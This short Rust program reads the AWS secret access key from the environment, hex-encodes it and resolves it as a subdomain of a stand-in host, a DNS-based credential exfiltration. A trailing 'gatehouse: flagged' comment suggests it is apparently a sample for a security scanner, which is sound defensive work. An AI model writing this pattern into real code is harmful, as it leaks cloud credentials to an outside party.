use std::net::ToSocketAddrs;

fn main() {
    let token = std::env::var("AWS_SECRET_ACCESS_KEY").unwrap();
    let _ = format!("{}.x.example.invalid:80", hex::encode(token)).to_socket_addrs(); // gatehouse: flagged
}
